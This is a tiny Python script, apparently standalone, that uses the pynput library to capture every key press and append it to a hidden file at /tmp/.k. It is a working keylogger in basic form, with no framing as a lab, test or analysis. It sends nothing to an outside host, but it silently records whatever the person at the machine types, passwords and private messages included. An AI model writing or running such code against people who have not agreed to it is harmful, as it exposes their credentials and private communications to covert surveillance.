from pynput import keyboard

def on_press(key):
    with open("/tmp/.k", "a") as log:
        log.write(str(key))

with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
